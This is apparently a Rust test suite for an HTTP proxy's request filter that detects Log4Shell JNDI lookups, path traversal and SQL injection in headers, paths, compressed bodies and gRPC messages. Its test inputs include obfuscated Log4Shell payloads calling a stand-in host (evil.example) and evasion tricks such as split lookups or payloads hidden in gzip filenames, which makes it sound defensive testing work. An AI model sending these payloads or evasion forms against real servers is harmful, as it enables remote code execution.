use super::*;
use http::HeaderValue;
use meridian_proxy_config::FilterPattern;
use proptest::prelude::*;
use std::io::Write;

const ATTACKS: &str = include_str!("../../../../request-filter/tests/corpus/attacks.txt");
const ORDINARY: &str = include_str!("../../../../request-filter/tests/corpus/ordinary.txt");
const ATTACK: &str = "${${::-j}ndi:ldap://evil.example/a}";
/// `hello ${jndi:ldap://x/a} world`, by Node's encoder.
const BROTLI: [u8; 34] = [
    0x8b, 0x0e, 0x80, 0x68, 0x65, 0x6c, 0x6c, 0x6f, 0x20, 0x24, 0x7b, 0x6a, 0x6e, 0x64, 0x69, 0x3a, 0x6c,
    0x64, 0x61, 0x70, 0x3a, 0x2f, 0x2f, 0x78, 0x2f, 0x61, 0x7d, 0x20, 0x77, 0x6f, 0x72, 0x6c, 0x64, 0x03,
];

fn with(change: impl FnOnce(&mut config::RequestFilter)) -> Arc<RequestFilter> {
    let mut config = config::RequestFilter {
        policy: "p".into(),
        rule_sets: vec![RuleSet::Log4shell],
        patterns: vec![],
        action: FilterAction::Block,
        status: 403,
        max_body_bytes: 1 << 20,
        on_limit: FilterAction::Block,
    };
    change(&mut config);
    Arc::new(RequestFilter::compile(&config).unwrap())
}

fn log4shell() -> Arc<RequestFilter> {
    with(|_| {})
}

fn pattern(regex: &str, parts: &[RequestPart]) -> Arc<RequestFilter> {
    with(|config| {
        let (name, regex) = ("mine".to_owned(), regex.to_owned());
        config.patterns = vec![FilterPattern { name, regex, places: parts.to_vec() }];
    })
}

fn head(filter: &RequestFilter, target: &str, headers: &[(&'static str, &str)]) -> Option<String> {
    let mut request = Request::builder().uri(target).body(()).unwrap();
    for (name, value) in headers {
        request.headers_mut().append(*name, HeaderValue::from_bytes(value.as_bytes()).unwrap());
    }
    filter.head(&request).map(|finding| finding.to_string())
}

#[test]
fn attacks_are_found_in_every_part_of_a_head() {
    let filter = log4shell();
    for attack in ATTACKS.lines() {
        assert_eq!(head(&filter, "/", &[("x-a", attack)]).unwrap(), "log4shell in the headers", "{attack}");
    }
    for attack in ATTACKS.lines().filter(|attack| attack.starts_with("${")) {
        let encoded: String = attack.bytes().map(|byte| format!("%{byte:02x}")).collect();
        assert_eq!(head(&filter, &format!("/{encoded}"), &[]).unwrap(), "log4shell in the path", "{attack}");
        let query = format!("/?q={encoded}");
        assert_eq!(head(&filter, &query, &[]).unwrap(), "log4shell in the query", "{attack}");
    }
    for text in ORDINARY.lines() {
        assert_eq!(head(&filter, "/a?b=$%7Bc%7D", &[("x-a", text), ("user-agent", text)]), None, "{text}");
    }
}

#[test]
fn what_is_read_together_is_examined_together() {
    let filter = log4shell();
    assert!(head(&filter, "/$%7B$%7Benv:A?b:-j%7Dndi:ldap://x%7D", &[]).is_some());
    assert!(head(&filter, "/", &[("a", "${${env:A"), ("a", "b:-j}ndi:ldap://x}")]).is_some());
    assert_eq!(head(&filter, "/", &[("a", "${${env:A"), ("b", "b:-j}ndi:ldap://x}")]), None);
}

#[test]
fn patterns_see_targets_as_written_and_as_meant() {
    use RequestPart::{HeaderNames, Headers, Path, Query};
    let traversal = pattern(r"\.\./", &[Path]);
    for target in ["/a/../b", "/a/%2e%2e%2fb", "/a/.%2E/b"] {
        assert_eq!(head(&traversal, target, &[]).as_deref(), Some("mine in the path"), "{target}");
    }
    assert_eq!(head(&traversal, "/a/..b?../", &[("x-a", "../")]), None);
    let sql = pattern("(?i)union select", &[Query]);
    assert!(head(&sql, "/?q=UNION+sel%65ct", &[]).is_some());
    assert_eq!(head(&sql, "/union%20select", &[]), None);
    assert!(head(&pattern("^x-evil$", &[HeaderNames]), "/", &[("x-evil", "")]).is_some());
    // A byte that is no text hides nothing.
    let mut request = Request::builder().uri("/").body(()).unwrap();
    request.headers_mut().insert("x-a", HeaderValue::from_bytes(b"one\xfftwo").unwrap());
    assert!(pattern("one.two", &[Headers]).head(&request).is_some());
    assert!(head(&pattern("gr\u{fc}n", &[Headers]), "/", &[("x-a", "Gr\u{fc}n gr\u{fc}n")]).is_some());
}

/// What a zone sends in place of a filter that it can't read.
#[test]
fn an_empty_pattern_over_the_path_blocks_everything() {
    let closed = pattern("", &[RequestPart::Path]);
    for target in ["/", "/a?b", "*"] {
        assert!(head(&closed, target, &[]).is_some(), "{target}");
    }
}

#[test]
fn methods_are_searched_too() {
    let found = |method: &str, target: &str| {
        let request = Request::builder().method(method).uri(target).body(()).unwrap();
        log4shell().head(&request).map(|finding| finding.to_string())
    };
    assert_eq!(found("%24%7Bjndi%3Aldap", "/").as_deref(), Some("log4shell in the method"));
    assert!(found("%24%7B%24%7Benv%3AA", "/b:-j%7Dndi:x").is_some());
    assert_eq!(found("GET", "/?a=%24%7B"), None);
}

#[test]
fn reports_name_the_policy() {
    let finding = log4shell().head(&Request::builder().uri("/%24%7Bjndi:").body(()).unwrap()).unwrap();
    assert_eq!(log4shell().rule(&finding), "p: log4shell in the path");
}

fn headers(pairs: &[(&'static str, &'static str)]) -> HeaderMap {
    pairs
        .iter()
        .map(|(name, value)| (http::HeaderName::from_static(name), HeaderValue::from_static(value)))
        .collect()
}

/// How many bytes of a body are passed on when it comes in these pieces, and why no more.
fn examine(filter: &Arc<RequestFilter>, headers: &HeaderMap, pieces: &[&[u8]]) -> (usize, Result<(), What>) {
    examine_as(Framing::Either, filter, headers, pieces)
}

fn examine_as(
    framing: Framing,
    filter: &Arc<RequestFilter>,
    headers: &HeaderMap,
    pieces: &[&[u8]],
) -> (usize, Result<(), What>) {
    let mut examiner = match BodyExaminer::new(filter, headers, framing) {
        Ok(examiner) => examiner,
        Err(what) => return (0, Err(what)),
    };
    let (mut come, mut passed) = (0, 0);
    for piece in pieces {
        if let Err(what) = examiner.feed(piece) {
            return (passed, Err(what));
        }
        come += piece.len();
        let decided = usize::try_from(examiner.decided()).unwrap();
        assert!((passed..=come).contains(&decided), "{passed} {decided} {come}");
        passed = decided;
    }
    match examiner.finish() {
        Ok(()) => (come, Ok(())),
        Err(what) => (passed, Err(what)),
    }
}

fn halves(body: &[u8]) -> impl Iterator<Item = [&[u8]; 2]> {
    (0..=body.len()).map(|at| {
        let (a, b) = body.split_at(at);
        [a, b]
    })
}

#[test]
fn nothing_of_an_attack_is_passed_on_wherever_it_is_split() {
    let filter = log4shell();
    let body = format!(r#"{{"name":"{ATTACK}","more":"text"}}"#);
    for pieces in halves(body.as_bytes()) {
        let (passed, result) = examine(&filter, &HeaderMap::new(), &pieces);
        assert_eq!(result, Err(What::Log4shell));
        assert!(passed <= 9, "{passed} of {}", pieces[0].len());
    }
    let single: Vec<&[u8]> = body.as_bytes().chunks(1).collect();
    assert_eq!(examine(&filter, &HeaderMap::new(), &single), (9, Err(What::Log4shell)));
}

fn encoded(coding: &str, text: &[u8]) -> Vec<u8> {
    use flate2::{Compression, write};
    let fast = Compression::fast();
    match coding {
        "gzip" => {
            let mut encoder = write::GzEncoder::new(Vec::new(), fast);
            encoder.write_all(text).unwrap();
            encoder.finish().unwrap()
        }
        "deflate" => {
            let mut encoder = write::ZlibEncoder::new(Vec::new(), fast);
            encoder.write_all(text).unwrap();
            encoder.finish().unwrap()
        }
        "zstd" => zstd::encode_all(text, 3).unwrap(),
        other => panic!("{other}"),
    }
}

#[test]
fn attacks_are_found_in_encoded_bodies() {
    let filter = log4shell();
    let text = format!("{}{ATTACK}", "before ".repeat(20));
    let bare = {
        let mut encoder = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::fast());
        encoder.write_all(text.as_bytes()).unwrap();
        encoder.finish().unwrap()
    };
    let two = [encoded("gzip", b"one member"), encoded("gzip", ATTACK.as_bytes())].concat();
    let samples = [
        ("gzip", encoded("gzip", text.as_bytes())),
        ("gzip", two),
        ("deflate", encoded("deflate", text.as_bytes())),
        ("deflate", bare),
        ("zstd", encoded("zstd", text.as_bytes())),
        ("br", BROTLI.to_vec()),
    ];
    for (coding, body) in samples {
        let headers = headers(&[("content-encoding", coding)]);
        for pieces in halves(&body) {
            let (passed, result) = examine(&filter, &headers, &pieces);
            assert_eq!(result, Err(What::Log4shell), "{coding}");
            assert!(passed < body.len(), "{coding}");
        }
        let single: Vec<&[u8]> = body.chunks(1).collect();
        assert_eq!(examine(&filter, &headers, &single).1, Err(What::Log4shell), "{coding}");
    }
}

#[test]
fn ordinary_bodies_pass_whole() {
    let filter = pattern("no such thing", &[RequestPart::Body]);
    let text = ORDINARY.repeat(30);
    let plain = text.as_bytes().to_vec();
    for (coding, body) in [
        ("identity", plain.clone()),
        ("gzip", encoded("gzip", &plain)),
        ("deflate", encoded("deflate", &plain)),
        ("zstd", encoded("zstd", &plain)),
    ] {
        let headers = headers(&[("content-encoding", coding)]);
        for size in [1, 7, 256, 5000, usize::MAX] {
            let pieces: Vec<&[u8]> = body.chunks(size).collect();
            assert_eq!(examine(&filter, &headers, &pieces), (body.len(), Ok(())), "{coding} {size}");
        }
    }
}

#[test]
fn what_cannot_be_examined_is_said() {
    let filter = with(|config| config.max_body_bytes = 300_000);
    let result = |pairs: &[_], body: &[u8]| match examine(&filter, &headers(pairs), &[body]).1 {
        Err(What::Unexaminable(why)) => Some(why),
        Err(what) => panic!("{what:?}"),
        Ok(()) => None,
    };
    let encoding = |coding| [("content-encoding", coding)];
    assert_eq!(result(&[], &[b'x'; 300_000]), None);
    assert_eq!(result(&[], &[b'x'; 300_001]), Some(Unexaminable::TooLong));
    assert_eq!(result(&encoding("compress"), b"x"), Some(Unexaminable::Encoding));
    assert_eq!(result(&encoding("gzip"), b"not gzip at all"), Some(Unexaminable::Damaged));
    assert_eq!(result(&encoding("br"), &[0x11, 0, 0]), Some(Unexaminable::Damaged));
    let trailing = [encoded("deflate", b"text"), b"more".to_vec()].concat();
    assert_eq!(result(&encoding("deflate"), &trailing), Some(Unexaminable::Damaged));
    let zeros = vec![0; 250_000];
    assert_eq!(result(&encoding("gzip"), &encoded("gzip", &zeros)), Some(Unexaminable::Bomb));
    assert_eq!(result(&encoding("zstd"), &encoded("zstd", &zeros)), Some(Unexaminable::Bomb));
    let charset = |value| [("content-type", value)];
    assert_eq!(result(&charset("application/json; charset=UTF-16"), b"x"), Some(Unexaminable::Charset));
    assert_eq!(result(&charset("text/xml; charset=\"utf-8\""), b"x"), None);
}

#[test]
fn character_sets_of_all_forms() {
    let refused = |value: &str| {
        let mut headers = HeaderMap::new();
        headers.insert("content-type", value.parse().unwrap());
        [Framing::Whole, Framing::Either, Framing::Messages].map(|framing| {
            match BodyExaminer::new(&log4shell(), &headers, framing) {
                Ok(_) => false,
                Err(what) => what == What::Unexaminable(Unexaminable::Charset),
            }
        })
    };
    for name in [
        "gbk",
        "gb18030",
        "GB_2312-80",
        "cp936",
        "ms936",
        "big5",
        "big5-hkscs",
        "shift_jis",
        "sjis",
        "ms_kanji",
        "windows-31j",
        "euc-jp",
        "euc-kr",
        "iso-8859-9",
        "iso-8859-3",
        "latin5",
        "l5",
        "latin3",
        "windows-1254",
        "utf-7",
        "utf-16",
        "utf-32",
        "",
        "utf-8x",
        "utf\\-8",
        "utf-8 x",
    ] {
        assert_eq!(refused(&format!("text/plain; charset={name}")), [true; 3], "{name}");
        assert_eq!(refused(&format!("application/grpc; charset=\"{name}\"")), [true; 3], "{name}");
    }
    for form in [
        "text/plain;charset=utf-8;charset=gbk",
        "text/plain, charset=utf-16",
        "a/b; x=\"; charset=utf-16",
        "a/b charset=utf-16",
        "a/b; charset*=us-ascii''utf-16",
        "a/b; charset*0=utf-; charset*1=16",
        "a/b; CHARSET = utf-16",
        "a/b;charset",
        "a/b; charset=utf-8, a/b; charset=utf-16",
    ] {
        assert_eq!(refused(form), [true; 3], "{form}");
    }
    for form in [
        "",
        "a/b",
        "a/b; charset=utf-8",
        "a/b;CharSet = \"UTF-8\" ; x=y",
        "a/b; charset='utf-8'",
        "a/b; charset=gb2312",
        "a/b; charset=iso-8859-1",
        "a/b; charset=windows-1252",
        "multipart/form-data; boundary=x",
    ] {
        assert_eq!(refused(form), [false; 3], "{form}");
    }
}

#[test]
fn several_types_are_none() {
    let two = headers(&[("content-type", "application/grpc"), ("content-type", "text/plain")]);
    for framing in [Framing::Whole, Framing::Either, Framing::Messages] {
        let result = examine_as(framing, &log4shell(), &two, &[b"x"]).1;
        assert_eq!(result, Err(What::Unexaminable(Unexaminable::Types)));
    }
}

/// gzip's name of a file, zstd's frame to be skipped: no decoder gives them out.
#[test]
fn encoded_bodies_are_searched_as_they_came() {
    let named = |coding: &str| match coding {
        "gzip" => {
            let mut encoder =
                flate2::GzBuilder::new().filename(ATTACK).write(Vec::new(), flate2::Compression::fast());
            encoder.write_all(b"text").unwrap();
            encoder.finish().unwrap()
        }
        _ => {
            let length = u32::try_from(ATTACK.len()).unwrap().to_le_bytes();
            [&[0x50, 0x2a, 0x4d, 0x18][..], &length, ATTACK.as_bytes(), &encoded("zstd", b"text")].concat()
        }
    };
    for coding in ["gzip", "zstd"] {
        let body = named(coding);
        let whole = headers(&[("content-encoding", coding)]);
        let begins = body.windows(2).position(|pair| pair == b"${").unwrap();
        for pieces in halves(&body) {
            let (passed, result) = examine(&log4shell(), &whole, &pieces);
            assert_eq!(result, Err(What::Log4shell), "{coding}");
            assert!(passed <= begins, "{coding} {passed}");
        }
        let grpc = headers(&[("content-type", "application/grpc"), ("grpc-encoding", coding)]);
        let result = examine_as(Framing::Messages, &log4shell(), &grpc, &[&message(1, &body)]).1;
        assert_eq!(result, Err(What::Log4shell), "{coding}");
        let pattern = pattern("evil.example", &[RequestPart::Body]);
        assert!(examine(&pattern, &whole, &[&body]).1.is_err());
    }
}

#[test]
fn what_ends_inside_of_its_encoded_form_is_damaged() {
    let damaged = Err(What::Unexaminable(Unexaminable::Damaged));
    let mut bare = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::fast());
    bare.write_all(b"hello").unwrap();
    let brotli = vec![0x0b, 0x02, 0x80, b'h', b'e', b'l', b'l', b'o', 0x03];
    for (coding, body) in [
        ("gzip", encoded("gzip", b"hello")),
        ("deflate", encoded("deflate", b"hello")),
        ("deflate", bare.finish().unwrap()),
        ("zstd", encoded("zstd", b"hello")),
        ("br", brotli),
    ] {
        let whole = headers(&[("content-encoding", coding)]);
        let grpc = headers(&[("content-type", "application/grpc"), ("grpc-encoding", coding)]);
        assert_eq!(examine(&log4shell(), &whole, &[&body]), (body.len(), Ok(())), "{coding}");
        assert_eq!(examine(&log4shell(), &whole, &[]), (0, Ok(())), "{coding}");
        for length in 1..body.len() {
            let cut = &body[..length];
            assert_eq!(examine(&log4shell(), &whole, &[cut]).1, damaged, "{coding} {length}");
            let messages = message(1, cut).repeat(2);
            let result = examine_as(Framing::Messages, &log4shell(), &grpc, &[&messages]).1;
            assert_eq!(result, damaged, "{coding} {length}");
        }
        let nothing = message(1, b"").repeat(1000);
        let result = examine_as(Framing::Messages, &log4shell(), &grpc, &[&nothing]);
        assert_eq!(result, (nothing.len(), Ok(())), "{coding}");
    }
}

#[test]
fn deflate_that_could_be_of_both_kinds_is_not_examined() {
    let deflate = headers(&[("content-encoding", "deflate")]);
    let result = |body: &[u8]| examine(&log4shell(), &deflate, &[body]).1;
    assert_eq!(result(&[0x78, 0x01, 0, 0xfe, 0xff, b'x']), Err(What::Unexaminable(Unexaminable::Encoding)));
    // A stored block that begins like zlib's first byte.
    let length = u8::try_from(ATTACK.len()).unwrap();
    assert_ne!((0x7800 + u16::from(length)) % 31, 0);
    let mut bare = vec![0x78, length, 0, !length, 0xff];
    bare.extend(ATTACK.bytes());
    assert_eq!(result(&bare), Err(What::Log4shell));
}

#[test]
fn who_declares_grpc_gets_messages_and_who_declares_http2_both() {
    let filter = log4shell();
    let grpc = headers(&[("content-type", "application/grpc")]);
    let text = headers(&[("content-type", "text/plain"), ("grpc-encoding", "gzip")]);
    let split = [message(0, b"a ${jndi"), message(0, b":ldap://x}")].concat();
    let hidden = message(1, &encoded("gzip", ATTACK.as_bytes()));
    assert_eq!(examine_as(Framing::Messages, &filter, &text, &[&hidden]).1, Err(What::Log4shell));
    assert_eq!(examine_as(Framing::Messages, &filter, &grpc, &[&split]).1, Ok(()));
    // A lookup that goes through a frame's prefix: `${${env:<prefix>:-j}ndi:...}`.
    let through = [message(0, b"a ${${env:"), message(0, b":-j}ndi:ldap://x}")].concat();
    for pieces in halves(&through) {
        let (passed, result) = examine_as(Framing::Either, &filter, &grpc, &pieces);
        assert_eq!(result, Err(What::Log4shell));
        assert!(passed <= PREFIX_AND_A, "{passed}");
        assert_eq!(examine_as(Framing::Whole, &filter, &grpc, &pieces).1, Err(What::Log4shell));
    }
    let many = message(0, &[b'x'; 900]).repeat(10);
    let short = with(|config| config.max_body_bytes = 1000);
    assert_eq!(examine_as(Framing::Either, &short, &grpc, &[&many]), (many.len(), Ok(())));
    assert!(!BodyExaminer::new(&short, &grpc, Framing::Either).unwrap().exceeds(9050));
}

const PREFIX_AND_A: usize = 7;

#[test]
fn patterns_may_begin_where_a_message_does() {
    let filter = pattern("^needle", &[RequestPart::Body]);
    let grpc = headers(&[("content-type", "application/grpc")]);
    for framing in [Framing::Messages, Framing::Either] {
        let found =
            |text: &[u8]| examine_as(framing, &filter, &grpc, &[&message(0, b"x"), &message(0, text)]).1;
        assert!(found(b"needle").is_err());
        assert_eq!(found(b" needle"), Ok(()));
    }
}

/// What is only observed does not end the examination for the limits.
#[test]
fn limits_hold_after_what_is_observed() {
    let filter = with(|config| {
        config.action = FilterAction::Observe;
        config.max_body_bytes = 1000;
    });
    let plain = HeaderMap::new();
    let mut examiner = BodyExaminer::new(&filter, &plain, Framing::Whole).unwrap();
    assert_eq!((examiner.feed(ATTACK.as_bytes()), examiner.observed()), (Ok(()), Some(&What::Log4shell)));
    assert_eq!(examiner.feed(&[b'x'; 1000]), Err(What::Unexaminable(Unexaminable::TooLong)));
    let zipped = headers(&[("content-encoding", "gzip")]);
    let body = encoded("gzip", &[ATTACK.as_bytes(), &[b'x'; 1000]].concat());
    assert_eq!(examine(&filter, &zipped, &[&body]).1, Err(What::Unexaminable(Unexaminable::TooLong)));
    let grpc = headers(&[("content-type", "application/grpc")]);
    let stream = [message(0, ATTACK.as_bytes()), message(0, &[b'x'; 1001])].concat();
    let result = examine_as(Framing::Messages, &filter, &grpc, &[&stream]).1;
    assert_eq!(result, Err(What::Unexaminable(Unexaminable::TooLong)));
}

#[test]
fn bytes_that_decode_to_nothing_are_not_held_for_ever() {
    let filter = log4shell();
    // Stored blocks of no bytes, while a lookup is open that is not to be seen in the bytes as they came.
    let mut encoder = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::fast());
    encoder.write_all(b"${").unwrap();
    encoder.flush().unwrap();
    let mut body = encoder.get_ref().clone();
    assert!(!body.contains(&b'$'));
    body.extend([0, 0, 0, 0xff, 0xff].repeat(40_000));
    let headers = headers(&[("content-encoding", "deflate")]);
    let result = examine(&filter, &headers, &[&body]).1;
    assert_eq!(result, Err(What::Unexaminable(Unexaminable::TooLong)));
}

fn message(compressed: u8, bytes: &[u8]) -> Vec<u8> {
    [&[compressed][..], &u32::try_from(bytes.len()).unwrap().to_be_bytes(), bytes].concat()
}

#[test]
fn grpc_messages_are_texts_of_their_own() {
    let filter = with(|config| config.max_body_bytes = 1000);
    let grpc = headers(&[("content-type", "application/grpc+proto"), ("grpc-encoding", "gzip")]);
    let ordinary = message(0, b"\x0a\x05hello $");
    let attack = message(0, ATTACK.as_bytes());
    let compressed = message(1, &encoded("gzip", ATTACK.as_bytes()));
    let stream = [ordinary.clone(), message(0, b""), message(1, &encoded("gzip", b"fine")), ordinary.clone()];
    let stream = stream.concat();
    for pieces in halves(&stream) {
        assert_eq!(examine_as(Framing::Messages, &filter, &grpc, &pieces), (stream.len(), Ok(())));
    }
    // A message that ends in what could begin a lookup is not held back for the next one.
    let mut examiner = BodyExaminer::new(&filter, &grpc, Framing::Messages).unwrap();
    examiner.feed(&ordinary).unwrap();
    assert_eq!(examiner.decided(), ordinary.len() as u64);
    for bad in [attack, compressed] {
        let stream = [ordinary.clone(), bad].concat();
        for pieces in halves(&stream) {
            let (passed, result) = examine_as(Framing::Messages, &filter, &grpc, &pieces);
            assert_eq!(result, Err(What::Log4shell));
            assert!(passed < stream.len());
        }
    }
    let many = ordinary.repeat(1000);
    assert_eq!(
        examine_as(Framing::Messages, &filter, &grpc, &[&many]),
        (many.len(), Ok(())),
        "the limit is a message's"
    );
    let refused = |stream: &[u8], why| {
        assert_eq!(examine_as(Framing::Messages, &filter, &grpc, &[stream]).1, Err(What::Unexaminable(why)));
    };
    refused(&message(0, &[b'x'; 1001]), Unexaminable::TooLong);
    refused(&message(2, b"x"), Unexaminable::Damaged);
    let unknown = headers(&[("content-type", "application/grpc"), ("grpc-encoding", "snappy")]);
    assert_eq!(examine_as(Framing::Messages, &filter, &unknown, &[&ordinary]).1, Ok(()));
    let result = examine_as(Framing::Messages, &filter, &unknown, &[&message(1, b"x")]).1;
    assert_eq!(result, Err(What::Unexaminable(Unexaminable::Encoding)));
}

#[test]
fn patterns_are_found_at_every_place_of_a_long_body() {
    let found = |regex: &str, body: &[u8]| {
        let filter = pattern(regex, &[RequestPart::Body]);
        let whole = examine(&filter, &HeaderMap::new(), &[body]).1.is_err();
        let pieces: Vec<&[u8]> = body.chunks(1000).collect();
        assert_eq!(examine(&filter, &HeaderMap::new(), &pieces).1.is_err(), whole, "{regex}");
        whole
    };
    for at in (0..20_000).step_by(331).chain([4_090, 4_096, 8_188, 8_192, 12_287]) {
        let body = [&vec![b'x'; at][..], b" needle ", &vec![b'x'; 9_000]].concat();
        assert!(found("needle", &body) && found(r"\bneedle\b", &body), "{at}");
        assert!(!found("^needle", &body) && !found("needle$", &body), "{at}");
        assert!(!found("^ ne", &body) || at == 0, "{at}");
    }
    let ends = [&[b'x'; 30_000][..], b" needle"].concat();
    assert!(found("needle$", &ends) && found("^x", &ends));
    assert!(!found("x$", &ends) && !found(r"x\b.x", &ends));
}

#[test]
fn a_pattern_that_is_too_large_is_refused() {
    let mut config = config::RequestFilter {
        policy: String::new(),
        rule_sets: vec![],
        patterns: vec![],
        action: FilterAction::Block,
        status: 403,
        max_body_bytes: 1,
        on_limit: FilterAction::Block,
    };
    for regex in ["(", "(a{1000}){1000}"] {
        let places = vec![RequestPart::Body];
        config.patterns = vec![FilterPattern { name: "a".into(), regex: regex.into(), places }];
        assert!(RequestFilter::compile(&config).is_err(), "{regex}");
    }
}

proptest! {
    #[test]
    fn pieces_do_not_matter(
        parts in prop::collection::vec(prop::sample::select(vec![
            "${", "}", ":-", "lower:", "jndi:", "j", "ndi", "%24", "%7b", "\\u0024", "x", "$", "text ",
        ]), 0..30),
        cuts in prop::collection::vec(1usize..12, 1..20),
    ) {
        let filter = log4shell();
        let text = parts.concat();
        let whole = examine(&filter, &HeaderMap::new(), &[text.as_bytes()]);
        let mut rest = text.as_bytes();
        let mut pieces = Vec::new();
        for cut in cuts.iter().cycle().take(text.len()) {
            let (piece, after) = rest.split_at((*cut).min(rest.len()));
            pieces.push(piece);
            rest = after;
        }
        let cut = examine(&filter, &HeaderMap::new(), &pieces);
        prop_assert_eq!(cut.1, whole.1.clone());
        let body = encoded("gzip", text.as_bytes());
        let zipped = examine(&filter, &headers(&[("content-encoding", "gzip")]), &[&body]);
        prop_assert_eq!(zipped.1, whole.1);
    }

    #[test]
    fn no_bytes_confuse_it(
        body in prop::collection::vec(any::<u8>(), 0..400),
        coding in prop::sample::select(vec!["identity", "gzip", "deflate", "br", "zstd"]),
        size in 1usize..40,
    ) {
        let pieces: Vec<&[u8]> = body.chunks(size).collect();
        let filter = pattern("a.*b", &[RequestPart::Body]);
        examine(&filter, &headers(&[("content-encoding", coding)]), &pieces).1.ok();
        let grpc = headers(&[("content-type", "application/grpc"), ("grpc-encoding", coding)]);
        for framing in [Framing::Messages, Framing::Either] {
            examine_as(framing, &filter, &grpc, &pieces).1.ok();
        }
    }
}
